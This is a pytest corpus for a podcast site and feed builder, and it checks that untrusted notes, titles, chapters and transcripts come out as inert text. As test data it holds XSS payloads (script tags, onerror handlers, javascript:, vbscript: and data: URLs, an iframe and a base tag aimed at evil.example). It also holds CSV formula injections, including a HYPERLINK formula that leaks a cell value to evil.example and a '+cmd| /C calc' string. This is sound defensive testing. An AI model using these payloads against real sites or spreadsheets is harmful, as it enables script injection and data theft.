"""Corpus: untrusted text on its way into pages, notes.html, the feed, ID3 tags, cue sheets
and transcripts, plus transcript encodings and timings checked against the built audio.

Every row starts from a show that was built and fed once (the last good build). The
"nothing executable survives" checks parse the real outputs: pages and HTML fragments with
html5lib (as a browser would), the feed with lxml (strict XML) and feedparser.
"""
from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import re
from pathlib import Path

import feedparser
import html5lib
import pytest
from corpus_support import (  # noqa: F401
    EP,
    EP_TOML,
    Case,
    Line,
    Run,
    corpus_base,
    corpus_built,
    edit,
    podkit_inprocess,
    prepend,
    run_case,
    transcript,
    tree_hash,
)
from lxml import etree
from mutagen.id3 import ID3

SITE = "build/site/test-radio"
STAGE_EP = "build/stage/test-radio/episodes/first-episode"
REPORTS = "build/reports/test-radio/first-episode"
FAILED = "podkit: 1 of 1 episode(s) failed"
CONTENT = "{http://purl.org/rss/1.0/modules/content/}encoded"
PODCAST = "{https://podcastindex.org/namespace/1.0}"

#: Attributes a browser follows as a URL (or runs).
URL_ATTRS = {"href", "src", "action", "formaction", "srcset", "poster", "data", "background",
             "cite", "xlink:href", "ping", "manifest", "lowsrc", "dynsrc"}
RUNNABLE = {"script", "iframe", "frame", "object", "embed", "applet", "svg", "math", "base",
            "form", "link", "meta", "template", "noscript"}


# ---- what counts as executable ---------------------------------------------------------------

def _url(value: str) -> str:
    # As a browser's URL parser sees it: controls and spaces around it and tabs/newlines in it gone.
    return re.sub(r"[\t\n\r]", "", value).strip("".join(map(chr, range(0x21)))).lower()


def executable(fragment: str, *, page: bool = False) -> list[str]:
    """What in this HTML could run code or load a foreign page.

    A page (`page=True`) may hold exactly one inline script whose hash its own
    Content-Security-Policy names, the CSP `<meta>`, and the template's `<link>`s.
    """
    doc = (html5lib.parse if page else html5lib.parseFragment)(fragment, namespaceHTMLElements=False)
    found: list[str] = []
    scripts = []
    for el in doc.iter():
        if not isinstance(el.tag, str):
            continue
        tag = el.tag.rsplit("}", 1)[-1].lower()  # svg and math elements keep their namespace
        if tag == "script":
            scripts.append(el)
        elif tag in RUNNABLE and not (page and tag in ("meta", "link")):
            found.append(f"<{tag}>")
        if page and tag == "meta" and el.get("http-equiv", "").lower() == "refresh":
            found.append("<meta refresh>")
        for name, value in el.attrib.items():
            name = name.lower()
            if name.startswith("on"):
                found.append(f"<{tag} {name}=>")
            if name == "style" and ("javascript:" in value.lower() or "expression(" in value.lower()):
                found.append(f"<{tag} style=...>")
            if name in URL_ATTRS and _url(value).startswith(("javascript:", "vbscript:", "data:")):
                found.append(f"<{tag} {name}={value[:30]}>")
    if page:
        csp = [m.get("content", "") for m in doc.iter("meta")
               if m.get("http-equiv", "").lower() == "content-security-policy"]
        assert len(csp) == 1 and "default-src 'none'" in csp[0], csp
        allowed = re.findall(r"'sha256-([^']+)'", csp[0])
        for s in scripts:
            digest = base64.b64encode(hashlib.sha256((s.text or "").encode()).digest()).decode()
            if s.get("src") or digest not in allowed or len(scripts) != 1:
                found.append("<script> not allowed by the page's CSP")
    else:
        found += ["<script>"] * len(scripts)
    return found


def text_of(fragment: str) -> str:
    doc = html5lib.parseFragment(fragment, namespaceHTMLElements=False)
    return " ".join("".join(doc.itertext()).split())


def feed_item(root: Path) -> etree._Element:
    """The one <item> of the built feed, parsed as strict XML (no recovery)."""
    data = (root / SITE / "feed.xml").read_bytes()
    parsed = feedparser.parse(data)
    assert not parsed.bozo, parsed.bozo_exception
    tree = etree.fromstring(data, etree.XMLParser(recover=False, resolve_entities=False))
    (item,) = tree.iter("item")
    return item


def pages(root: Path) -> dict[str, str]:
    return {p: (root / p).read_text("utf-8") for p in (f"{SITE}/index.html",
                                                      f"{SITE}/episodes/first-episode/index.html")}


# ---- planted inputs ------------------------------------------------------------------------------

XSS_NOTES = """\
Intro <script>alert("script")</script> text.

<img src="x.png" onerror="alert('onerror')"> <a href="javascript:alert('js')">js link</a>
[md link](javascript:alert('md')) [fine](https://example.org/ok)
<a href="JaVaScRiPt&#58;alert('entity')">entity</a> <a href=" java\tscript:alert('tab')">tab</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>
<a href="vbscript:msgbox('vb')">vb</a> <svg onload="alert('svg')"><circle/></svg>
<iframe src="https://evil.example/"></iframe> <object data="x.swf"></object>
<p style="background:url(javascript:alert('css'))" onclick="alert('click')">styled</p>
<form action="javascript:alert('form')"><button formaction="javascript:alert(1)">b</button></form>
<meta http-equiv="refresh" content="0;url=javascript:alert('meta')"><base href="https://evil.example/">

Closing ]]> here, <![CDATA[ inner ]]> and --> and <!-- a comment --> end.
"""


def xss_notes(root: Path) -> None:
    edit(root / EP_TOML, 'notes = "Some *notes* with [a link](https://www.example.org/)."',
         'notes_file = "notes.md"')
    (root / EP / "notes.md").write_text(XSS_NOTES, "utf-8")


def nothing_executable(root: Path, run: Run) -> None:
    for name, html in pages(root).items():
        assert executable(html, page=True) == [], name
    page = pages(root)[f"{SITE}/episodes/first-episode/index.html"]
    assert "Closing ]]> here" in text_of(page)
    notes_html = (root / REPORTS / "notes.html").read_text("utf-8")
    assert executable(notes_html) == [] and "fine" in text_of(notes_html)
    item = feed_item(root)
    description, content = item.findtext("description"), item.findtext(CONTENT)
    for fragment in (description, content):
        assert executable(fragment) == [], fragment
        assert "Closing ]]> here" in text_of(fragment)  # `]]>` read back whole
    assert '<a href="https://example.org/ok"' in content  # the safe link is kept


TITLE = 'Fish & Chips <script>alert("title")</script> ]]> "quoted"'
PERSON = '<b onmouseover="alert(1)">Guest</b>'
CHAPTER = "<img src=x onerror=alert('chapter')>"


def markup_in_fields(root: Path) -> None:
    toml = root / EP_TOML
    edit(toml, 'title = "First episode"', f"title = '{TITLE}'")
    edit(toml, 'summary = "The first one."', "summary = '<img src=x onerror=alert(\"summary\")>'")
    with open(toml, "a", encoding="utf-8") as f:
        f.write(f"\n[[persons]]\nname = '{PERSON}'\nrole = \"guest\"\n"
                f"\n[[chapters]]\nstart = 0\ntitle = \"{CHAPTER}\"\n"
                f"[[chapters]]\nstart = 2\ntitle = \"Talk\"\n"
                "\n[[transcripts]]\nfile = \"t.txt\"\nalign = false\n")
    (root / EP / "t.txt").write_text("Host: <script>alert('transcript')</script> hello & bye\n")


def fields_stay_text(root: Path, run: Run) -> None:
    for name, html in pages(root).items():
        assert executable(html, page=True) == [], name
    page = (root / SITE / "episodes/first-episode/index.html").read_text("utf-8")
    doc = html5lib.parse(page, namespaceHTMLElements=False)
    assert " ".join("".join(doc.find(".//h1").itertext()).split()) == " ".join(TITLE.split())
    assert "<script>alert('transcript')</script> hello & bye" in " ".join(doc.itertext())
    item = feed_item(root)
    assert item.findtext("title") == TITLE
    assert item.findtext(f"{PODCAST}person") == PERSON
    for fragment in (item.findtext("description"), item.findtext(CONTENT)):
        assert executable(fragment) == []
    transcript_html = (root / SITE / "episodes/first-episode/transcript.html").read_text("utf-8")
    assert executable(transcript_html, page=True) == []
    assert "<p>&lt;script&gt;alert('transcript')&lt;/script&gt; hello &amp; bye</p>" in transcript_html
    (mp3,) = (root / SITE / "episodes/first-episode").glob("first-episode-*.mp3")
    tags = ID3(mp3)
    assert str(tags["TIT2"]) == TITLE
    assert [str(f) for f in tags.getall("COMM")] == ['<img src=x onerror=alert("summary")>']
    chapters = json.loads((root / SITE / "episodes/first-episode/chapters.json").read_text())
    assert chapters["chapters"][0]["title"] == CHAPTER
    assert f"Title:     {TITLE}" in (root / REPORTS / "cue.txt").read_text("utf-8")


KOREAN = "Host: Welcome to the café in Séoul.\n\nGuest: Thank you — 감사합니다.\n"


def utf16_read_right(root: Path, run: Run) -> None:
    out = (root / STAGE_EP / "transcript.txt").read_bytes()
    assert out.decode("utf-8").replace("\r\n", "\n").strip().endswith("감사합니다.")
    assert "감사합니다" in (root / STAGE_EP / "index.html").read_text("utf-8")


def srt(*cues: tuple[str, str, str]) -> bytes:
    return "\n".join(f"{i}\n{a} --> {b}\n{text}\n" for i, (a, b, text) in
                     enumerate(cues, 1)).encode()


def ends_at_the_audio(root: Path, run: Run) -> None:
    vtt = (root / STAGE_EP / "transcript.vtt").read_text("utf-8")
    assert vtt.rstrip().splitlines()[-2] == "00:00:02.500 --> 00:00:05.000", vtt


FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'


def formulas(root: Path) -> None:
    prepend(root / EP_TOML, "programme = '+cmd| /C calc!A0'\nsegment = '@SUM(1+1)'\n")
    edit(root / EP_TOML, 'title = "First episode"', f"title = '{FORMULA}'")
    (root / EP / "t.txt").write_text("-2+3 is one, said the host.\n\nAnd that is all.\n")
    with open(root / EP_TOML, "a", encoding="utf-8") as f:
        f.write('\n[[transcripts]]\nfile = "t.txt"\nalign = false\n')


def formulas_are_text(root: Path, run: Run) -> None:
    for path in (root / REPORTS / "cue.csv", root / "build/reports/test-radio/cue.csv"):
        (row,) = csv.DictReader(io.StringIO(path.read_text("utf-8"), newline=""))
        assert row["title"] == "'" + FORMULA
        assert row["programme"] == "'+cmd| /C calc!A0" and row["segment"] == "'@SUM(1+1)"
        assert row["in_cue"].startswith("'-2+3 is one")
        assert row["integrated_lufs"] == "-16.0"  # numbers stay numbers
    assert f"Title:     {FORMULA}" in (root / REPORTS / "cue.txt").read_text("utf-8")


def retitle_and_break_template(root: Path) -> None:
    edit(root / EP_TOML, 'title = "First episode"', 'title = "First episode, retitled"')
    (root / "templates").mkdir()
    (root / "templates/episode.html.j2").write_text(
        "{% extends 'default/episode.html.j2' %}{% block main %}{{ item.nope( }}{% endblock %}")


def control_notes(root: Path) -> None:
    edit(root / EP_TOML, 'notes = "Some *notes* with [a link](https://www.example.org/)."',
         'notes_file = "notes.md"')
    (root / EP / "notes.md").write_bytes(b"Page one\x0cpage two \x01bell\x07 and NEL\xc2\x85end.\n")


def page_and_feed_agree(root: Path, run: Run) -> None:
    page = (root / SITE / "episodes/first-episode/index.html").read_text("utf-8")
    content = feed_item(root).findtext(CONTENT)
    first = "<p>Page one\npage two bell and NEL\nend.</p>"
    assert first in content and first in page


CASES = [
    Case("notes-xss", "notes with <script>, onerror=, javascript:/vbscript:/data: links (plain, "
         "entity-encoded, tab-split, mixed case), svg/iframe/object/form/meta/base, style=, "
         "`]]>`, `<![CDATA[` and comments", xss_notes,
         "valid: built and fed; every vector removed, the text and the safe link kept",
         command=("feed",), before=(("build",),), exit=0, built=True, process=True,
         verify=nothing_executable,
         checked="pages (html5lib: only the CSP-hashed player script), notes.html and the feed's "
                 "description/content:encoded (lxml strict, feedparser not bozo) scanned for "
                 "scripts, on* attributes, javascript:/data: URLs; `]]>` reads back whole"),
    Case("markup-in-fields", "markup in title, summary, person name, chapter title and a .txt "
         "transcript (`<script>`, `onerror=`, `&`, quotes, `]]>`)", markup_in_fields,
         "valid: shown as text everywhere", command=("feed",), before=(("build",),), exit=0,
         built=True, verify=fields_stay_text,
         checked="page <h1> text, feed <title> and podcast:person, ID3 TIT2/COMM (mutagen), "
                 "chapters.json, cue.txt read back equal to the input; nothing executable"),
    Case("control-notes", "notes.md with a form feed, U+0001, BEL and NEL", control_notes,
         "valid: removed at load (page breaks become line breaks); page and feed say the same",
         command=("feed",), before=(("build",),), exit=0, built=True, verify=page_and_feed_agree,
         checked="the same paragraph in the page and content:encoded; check's warning: "
                 "see notes-control-check"),
    Case("notes-control-check", "`podkit check` on that notes.md", control_notes,
         "exit 0 with one warning naming notes.md, line and column",
         Line(EP_TOML, "notes_file", ("notes.md: removed 4 character(s)", "U+000C",
                                      "line 1, column 9"), warning=True, stream="stdout"),
         exit=0),
    Case("control-title-build", '`podkit build` with the title "Kim\\u0001s speech"',
         lambda r: edit(r / EP_TOML, 'title = "First episode"', 'title = "Kim\\u0001s speech"'),
         "refused at load: build, feed and check give the same line",
         Line(EP_TOML, "title", ("U+0001", "character 4"), prefix="failed first-episode: "),
         command=("build",), built=True, summary=FAILED, process=True),
    Case("transcript-utf16-bom", "a .txt transcript in UTF-16 with BOM (Korean and accents)",
         transcript("t.txt", KOREAN.encode("utf-16")),
         "valid: decoded, one warning, written out as UTF-8",
         Line(f"{EP}/t.txt", None, ("decoded as UTF-16", "UTF-8 is preferred"),
              prefix="WARNING toolkit.text.transcript_read: ", absolute=True),
         command=("build",), exit=0, built=True, verify=utf16_read_right,
         checked="transcript.txt in the stage is UTF-8 with the Korean text; the page shows it"),
    Case("transcript-past-end", "an .srt cue starting at 00:06 in 5 s of audio",
         transcript("t.srt", srt(("00:00:00,000", "00:00:02,000", "Host: Hello."),
                                 ("00:00:06,000", "00:00:07,000", "Host: Too late."))),
         "the episode fails naming the cue and time; the last good build stays",
         Line(f"{EP}/t.srt", "cue 2 at 00:06.000", ("starts after the end of the audio",
                                                   "5.000 s"), prefix="failed first-episode: ",
              absolute=True), command=("build",), built=True, summary=FAILED),
    Case("transcript-ends-past-end", "an .srt cue ending at 00:09 in 5 s of audio",
         transcript("t.srt", srt(("00:00:00,000", "00:00:02,000", "Host: Hello."),
                                 ("00:00:02,500", "00:00:09,000", "Host: Long."))),
         "the episode fails naming the cue and time",
         Line(f"{EP}/t.srt", "cue 2 at 00:02.500", ("ends at 9.000 s", "after the end"),
              prefix="failed first-episode: ", absolute=True),
         command=("build",), built=True, summary=FAILED),
    Case("transcript-end-in-tolerance", "an .srt cue ending 0.3 s after the audio",
         transcript("t.srt", srt(("00:00:00,000", "00:00:02,000", "Host: Hello."),
                                 ("00:00:02,500", "00:00:05,300", "Host: Bye."))),
         "valid: the end is clipped to the audio's", command=("build",), exit=0, built=True,
         verify=ends_at_the_audio, checked="the written .vtt ends at 00:05.000"),
    Case("cue-csv-formula", "title `=HYPERLINK(...)`, programme `+cmd|...`, segment `@SUM(...)`, "
         "transcript starting `-2+3`", formulas,
         "valid: cue.csv cells start with `'` (text, never a formula); numbers untouched",
         command=("cue",), before=(("build",),), exit=0, built=True, verify=formulas_are_text,
         checked="csv module reads both cue.csv files; cue.txt keeps the title as written"),
    Case("template-error-after-tagging", "a retitled episode (new tags) and a broken template "
         "override", retitle_and_break_template,
         "the episode fails naming template and line; the last good build stays, byte for byte, "
         "and nothing of the attempt (not its new MP3) is in build/",
         Line("templates/episode.html.j2", "line 1", ("template syntax error",),
              prefix="failed first-episode: ", absolute=True),
         command=("build",), built=True, summary=FAILED, process=True,
         checked="build/ exactly as before; `podkit feed` then refuses: the episode is stale "
                 "(its title changed since the last good build)"),
]


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.id)
def test_text_case(case: Case, corpus_built: Path, tmp_path: Path) -> None:
    before = tree_hash(corpus_built / "build")
    root, run = run_case(case, corpus_built, tmp_path)
    if case.id == "template-error-after-tagging":
        (root / "templates/episode.html.j2").unlink()
        again = podkit_inprocess(root, "feed")
        # The last good build is older than the sources: the feed is not written from it.
        assert again.rc == 1 and "stale: changed since its build" in again.stderr, again
        assert "(title)" in again.stderr and "run `podkit build first-episode`" in again.stderr


@pytest.mark.parametrize("html, expected", [
    ('<p onclick="x()">a</p>', ["<p onclick=>"]),
    ('<a href=" jav&#x09;ascript:alert(1)">a</a>', ["<a href= jav\tascript:alert(1)>"]),
    ("<svg><script>alert(1)</script></svg>", ["<svg>", "<script>"]),
    ('<img src="data:image/png;base64,AAAA">', ['<img src=data:image/png;base64,AAAA>']),
    ('<a href="https://example.org/">fine</a>', []),
])
def test_the_scanner_finds_what_it_must(html: str, expected: list[str]) -> None:
    """The checks above cannot pass vacuously: the scanner flags each vector it looks for."""
    assert executable(html) == expected
